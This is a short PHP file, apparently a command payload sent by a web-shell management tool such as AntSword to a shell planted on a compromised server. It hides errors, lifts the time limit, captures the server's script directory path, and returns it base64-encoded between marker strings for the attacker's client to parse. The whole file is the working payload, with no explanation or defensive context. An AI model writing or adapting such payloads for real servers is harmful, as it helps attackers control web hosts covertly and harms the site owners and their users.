<?php
@ini_set("display_errors", "0");
@set_time_limit(0);
function asenc($out){ return @base64_encode($out); };
function asoutput(){ $output=ob_get_contents(); ob_end_clean(); echo "ab"."cd"; echo @asenc($output); echo "ef"."gh"; }
ob_start();
try { $D = dirname($_SERVER["SCRIPT_FILENAME"]); if ($D == "") $D = dirname($_SERVER["PATH_TRANSLATED"]); echo $D; } catch (Exception $e) { echo "ERROR://".$e->getMessage(); };
asoutput();
die();
